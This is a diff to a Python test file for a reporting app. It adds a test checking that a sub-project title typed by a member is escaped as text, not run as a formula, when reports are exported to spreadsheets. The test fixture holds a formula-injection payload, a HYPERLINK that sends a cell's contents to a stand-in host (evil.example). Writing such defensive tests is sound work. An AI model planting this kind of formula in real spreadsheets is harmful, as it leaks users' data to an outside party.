@@ -19,6 +19,7 @@ from pypdf import PdfReader
 
 from ponte.core.tests.helpers import CAVALESE, italian, page_text
 from ponte.pathways.models import Consent, Level, LevelChange, Person
+from ponte.projects.models import SubProject
 from ponte.reports import services
 from ponte.reports.indicators import INDICATORS, SUPPRESSED
 from ponte.reports.models import FunderReport
@@ -372,3 +373,15 @@ def test_the_number_of_queries_of_the_list_does_not_grow_with_the_reports(
     few = _list_queries(client)
     add(5)
     assert _list_queries(client) == few
+
+
+def test_a_title_that_looks_like_a_formula_comes_out_as_text(client, coordinator, data, media):
+    """ponte/core/exports.py: a sub-project's title is what a member typed."""
+    formula = '=HYPERLINK("http://evil.example/?"&B3,"Laboratorio")'
+    SubProject.objects.filter(title="Laboratorio").update(title=formula)
+    assert request_report(client, coordinator).status_code == 302
+    book = workbook(client, FunderReport.objects.get())
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert any(text.startswith("'" + formula) for text in texts)
